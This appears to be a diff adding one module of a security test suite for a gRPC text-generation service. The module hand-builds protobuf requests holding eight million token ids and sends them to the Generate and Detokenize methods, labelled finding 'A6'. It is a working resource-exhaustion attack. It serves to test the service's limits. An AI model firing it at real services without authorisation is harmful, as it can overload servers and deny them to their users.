@@ -1,0 +1,48 @@
+"""A6: lists of millions of ids, as prompts and to be turned into text."""
+
+from __future__ import annotations
+
+import asyncio
+from typing import Any
+
+import grpc.aio
+
+from ..attack import SERVICE, Attack, Seen, Target, count
+
+
+def varint(number: int) -> bytes:
+    """A protobuf varint."""
+    found = bytearray()
+    while number > 127:
+        found.append(number & 127 | 128)
+        number >>= 7
+    return bytes([*found, number])
+
+
+def field(number: int, content: bytes) -> bytes:
+    """A protobuf field of bytes, or a message in a message."""
+    return varint(number << 3 | 2) + varint(len(content)) + content
+
+
+IDS = 8_000_000
+
+
+def raw(channel: grpc.aio.Channel, method: str) -> Any:
+    """A method whose messages are bytes: what they hold is never made into objects here."""
+    make: Any = channel.unary_stream if method == "Generate" else channel.unary_unary
+    return make(SERVICE + method)
+
+
+async def attack(target: Target, seen: Seen) -> None:
+    ids = b"\x05" * IDS  # each a varint of one byte
+    async with target.channel() as channel:
+        for _ in range(2):
+            prompt = field(3, field(1, ids))  # GenerateRequest.token_ids.ids
+            calls = [
+                raw(channel, "Generate")(prompt, metadata=target.metadata, timeout=20),
+                raw(channel, "Detokenize")(field(1, ids), metadata=target.metadata, timeout=20),
+            ]
+            await asyncio.gather(*(count(seen, call) for call in calls))
+
+
+ATTACK = Attack(name="giant-ids", finding="A6", run=attack)
